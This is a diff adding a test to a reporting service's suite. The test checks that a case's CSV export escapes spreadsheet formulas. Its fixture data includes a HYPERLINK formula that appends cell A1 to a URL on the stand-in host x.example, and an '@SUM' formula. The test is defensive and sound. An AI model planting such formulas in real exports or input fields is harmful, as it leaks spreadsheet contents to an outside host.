@@ -604,6 +604,27 @@ async def test_the_export_holds_every_envelope_with_its_hash_chain(
     assert (await reporting.get(f"/cases/{rid}/export.csv", "ADMIN")).status_code == 403
 
 
+async def test_no_cell_of_the_csv_export_is_a_formula(reporting: Reporting) -> None:
+    """Numbers typed by a requester and an office become cells: one that starts a formula gets
+    an apostrophe in front (``infra.spreadsheet``), and nothing else changes."""
+    r = reporting
+    rid = str(uuid.uuid4())
+    letter = RequestLetter(
+        number='=HYPERLINK("http://x.example/?"&A1,"klik")', date=dt.date(2024, 3, 1)
+    )
+    request = submitted(rid, OPD).model_copy(update={"letter": letter})
+    await r.emit("intake", rid, wib(DAY1, "08:00"), REQUESTER, request)
+    received = RequestReceived(request_id=rid, received_by="u-kadis", agenda_number="@SUM(1+1)")
+    await r.emit("intake", rid, wib(DAY1, "08:01"), KADIS, received)
+    await r.settle(rid)
+    answer = await r.get(f"/cases/{rid}/export.csv")
+    assert answer.status_code == 200
+    cells = [cell for line in csv.reader(io.StringIO(answer.text)) for cell in line]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    numbers = [row["document_numbers"] for row in csv.DictReader(io.StringIO(answer.text))]
+    assert numbers == ["'" + letter.number, "'@SUM(1+1)"]
+
+
 # Isolation, paging and bad input ----------------------------------------------------------------
 
 
